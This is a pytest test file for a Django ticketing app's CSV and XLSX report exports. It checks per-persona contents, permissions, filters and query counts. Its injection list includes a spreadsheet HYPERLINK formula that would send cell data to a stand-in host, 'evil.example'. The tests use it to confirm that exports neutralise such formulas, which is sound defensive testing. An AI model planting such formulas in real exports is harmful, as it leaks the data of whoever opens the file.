"""CSV and XLSX exports: parsed back, checked per persona, formulas neutralised."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from guardian.shortcuts import remove_perm
from openpyxl import load_workbook

from tickets import exports, services
from tickets.models import Ticket
from tickets.tests import test_reports
from tickets.tests.fixtures import statements

pytestmark = pytest.mark.django_db

# The reports' hand-counted world, so exports and reports are checked on the same numbers.
report_world = test_reports.report_world

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clique aqui")',
    "+55 11 99999-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1+1",
    "\rCR=1+1",
]


def get_csv(client, slug, **params):
    response = client.get(reverse("tickets:report_csv", args=[slug]), params, **EN)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="relatorio-{slug}-')
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads the accents as UTF-8
    return list(csv.DictReader(io.StringIO(body[1:], newline="")))


def get_xlsx(client, slug, **params):
    response = client.get(reverse("tickets:report_xlsx", args=[slug]), params, **EN)
    assert response.status_code == 200
    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


# ---- The ticket export --------------------------------------------------------------------


def test_the_gestors_csv_has_his_tickets_and_their_money(report_world, as_user):
    rows = get_csv(as_user(report_world["gestor"]), "tickets")
    by_title = {row["Title"]: row for row in rows}
    assert len(rows) == 7
    assert report_world["t4"].title not in by_title and report_world["b1"].title not in by_title
    x1 = by_title["Quadro elétrico x1"]
    assert (
        x1["Unit code"] == "LJ01"
        and x1["Status"] == "Executed"
        and x1["Responsável Executante"] == "Tiago Técnico"
    )
    assert x1["Costs (R$)"] == "1050.00" and x1["Invoiced (R$)"] == "1050.00"
    assert by_title["Vazamento x3"]["Costs (R$)"] == "200.50"
    assert by_title["Câmara fria quente"]["Costs (R$)"] == "0.00"
    assert x1["Deadline (prazo)"] == report_world["d0"].isoformat()
    assert x1["Executed"] == f"{(report_world['d0'] + timedelta(days=1)).isoformat()} 14:00"  # São Paulo time


def test_the_xlsx_has_the_same_rows_with_real_dates_and_numbers(report_world, as_user):
    rows = get_xlsx(as_user(report_world["gestor"]), "tickets")
    assert len(rows) == 7
    x1 = next(row for row in rows if row["Title"].value == "Quadro elétrico x1")
    assert isinstance(x1["Number"].value, int)
    assert x1["Deadline (prazo)"].value.date() == report_world["d0"]  # a date cell…
    assert x1["Deadline (prazo)"].number_format == exports.DATE_FORMAT  # …shown as dd/mm/aaaa
    assert isinstance(x1["Executed"].value, datetime) and x1["Executed"].value.tzinfo is None
    assert x1["Costs (R$)"].value == pytest.approx(1050.0) and x1["Costs (R$)"].data_type == "n"


def test_client_staff_export_every_provider_of_their_client(report_world, as_user):
    rows = {row["Title"]: row for row in get_csv(as_user(report_world["client_staff"]), "tickets")}
    assert len(rows) == 9 and report_world["b1"].title not in rows
    assert rows[report_world["t4"].title]["Costs (R$)"] == "999.99"


def test_without_the_finance_grant_there_is_no_money_column(report_world, as_user):
    contract = report_world["clima_sm"]
    remove_perm("providers.view_financials", contract.gestor_group, contract)
    client = as_user(report_world["gestor"])
    for slug in ("tickets", "unidades"):
        rows = get_csv(client, slug)
        assert rows and "Costs (R$)" not in rows[0] and "Invoiced (R$)" not in rows[0]
        assert not [k for k in get_xlsx(client, slug)[0] if "R$" in str(k)]


def test_the_export_follows_the_reports_filters(report_world, as_user):
    lj02 = report_world["supermercados"].units.get(code="LJ02").pk
    rows = get_csv(as_user(report_world["gestor"]), "tickets", unit=lj02)
    assert sorted(row["Title"] for row in rows) == ["Ar-condicionado pingando", "Lâmpada x4", "Vazamento x3"]


# ---- The other exports --------------------------------------------------------------------


def test_the_productivity_export_has_the_hand_counted_figures(report_world, as_user):
    rows = {row["E-mail"]: row for row in get_csv(as_user(report_world["gestor"]), "produtividade")}
    tiago = rows["tecnico1@prestadora.demo"]
    assert (tiago["Allocated"], tiago["Executed"], tiago["Overdue"]) == ("3", "3", "1")
    assert tiago["Median time to execute (hours)"] == "30.0"
    assert (tiago["Executed on time"], tiago["Judged by deadline or SLA"]) == ("2", "3")
    assert tiago["Share executed on time (%)"] == "66.7"
    talita = rows["tecnico2@prestadora.demo"]
    assert talita["Median time to execute (hours)"] == "4.0" and talita["Share executed on time (%)"] == ""


def test_the_unit_export_in_xlsx(report_world, as_user):
    rows = {row["Unit code"].value: row for row in get_xlsx(as_user(report_world["gestor"]), "unidades")}
    assert [rows[c]["Tickets"].value for c in ("LJ01", "LJ02", "LJ03")] == [3, 3, 1]
    assert rows["LJ02"]["Overdue"].value == 2
    assert rows["LJ01"]["Costs (R$)"].value == pytest.approx(1050.0)


def test_the_status_export_counts_by_status(report_world, as_user):
    client = as_user(report_world["gestor"])
    counts = {row["Status"]: row["Tickets"] for row in get_csv(client, "status")}
    assert counts == {"Open": "2", "In progress": "1", "Executed": "2", "Inspected": "2", "Archived": "0"}
    assert {row["Status"].value: row["Tickets"].value for row in get_xlsx(client, "status")}["Open"] == 2


def test_an_unknown_export_is_a_404(report_world, as_user):
    client = as_user(report_world["gestor"])
    assert client.get(reverse("tickets:report_csv", args=["senhas"])).status_code == 404
    assert client.get(reverse("tickets:report_xlsx", args=["senhas"])).status_code == 404


@pytest.mark.parametrize("persona", ["tecnico2", "other_client_admin"])
def test_the_executante_and_outsiders_get_nothing_of_this_client(report_world, as_user, persona):
    client = as_user(report_world[persona])
    response = client.get(reverse("tickets:report_csv", args=["tickets"]))
    if persona == "tecnico2":
        assert response.status_code == 404
    else:  # Banco's admin has his own report: his tickets only
        body = b"".join(response.streaming_content).decode()
        assert report_world["t1"].title not in body and report_world["b1"].title in body


# ---- Formulas -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_neutralise_prefixes_formula_starters(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("Troca de lâmpada") == "Troca de lâmpada"
    assert exports.neutralise(-5) == -5  # numbers stay numbers


def test_a_ticket_titled_like_a_formula_comes_out_as_text(
    report_world, as_user, django_capture_on_commit_callbacks
):
    unit = report_world["supermercados"].units.get(code="LJ03")
    with django_capture_on_commit_callbacks(execute=True):
        for title in INJECTIONS:
            services.ticket_create(
                client=report_world["supermercados"],
                requester=report_world["client_admin"],
                title=title,
                unit=unit,
                contract=report_world["clima_sm"],
            )
    client = as_user(report_world["gestor"])
    stored = set(
        Ticket.objects.filter(title__in=[t.strip() for t in INJECTIONS]).values_list("title", flat=True)
    )
    assert stored  # ticket_create strips surrounding whitespace: check what was stored
    csv_titles = {row["Title"] for row in get_csv(client, "tickets")}
    xlsx_cells = {row["Title"].value: row["Title"] for row in get_xlsx(client, "tickets")}
    for title in stored:
        if title.startswith(exports.FORMULA_STARTS):
            assert "'" + title in csv_titles
            cell = xlsx_cells["'" + title]
            assert cell.data_type == "s"  # a string, not a formula
        else:
            assert title in csv_titles
    assert not [c for c in xlsx_cells.values() if c.data_type == "f"]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Clique aqui")' in csv_titles


def test_control_characters_do_not_break_the_xlsx(report_world, as_user):
    Ticket.objects.filter(pk=report_world["t1"].pk).update(title="Quadro\x07 com\x1b ruído")
    rows = get_xlsx(as_user(report_world["gestor"]), "tickets")
    assert "Quadro com ruído" in {row["Title"].value for row in rows}


def test_csv_values_are_plain():
    assert exports.csv_value(None) == ""
    assert exports.csv_value(Decimal("12.50")) == "12.50"
    assert exports.csv_value(date(2026, 3, 9)) == "2026-03-09"
    assert exports.csv_value(True) == "1"


def test_a_large_xlsx_stops_at_the_cap_and_says_so(report_world, as_user, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    client = as_user(report_world["gestor"])
    response = client.get(reverse("tickets:report_xlsx", args=["tickets"]), **EN)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [row[0].value for row in sheet.iter_rows()]
    assert len(values) == 1 + 3 + 1  # header, three tickets, the note
    assert values[-1] == "More rows match: this file stops at 3. The CSV export has them all."
    assert len(get_csv(client, "tickets")) == 7  # the CSV has them all
    assert "XLSX files stop at 3 tickets" in client.get(reverse("tickets:reports"), **EN).content.decode()


# ---- Streaming and queries ----------------------------------------------------------------


def test_the_csv_takes_the_same_queries_for_more_tickets(
    report_world, as_user, django_capture_on_commit_callbacks
):
    client = as_user(report_world["gestor"])

    def count():
        with CaptureQueriesContext(connection) as queries:
            get_csv(client, "tickets")
        return statements(queries)

    before = count()
    unit = report_world["supermercados"].units.get(code="LJ01")
    with django_capture_on_commit_callbacks(execute=True):
        for i in range(10):
            services.ticket_create(
                client=report_world["supermercados"],
                requester=report_world["client_admin"],
                title=f"Extra {i}",
                unit=unit,
                contract=report_world["clima_sm"],
            )
    assert count() == before
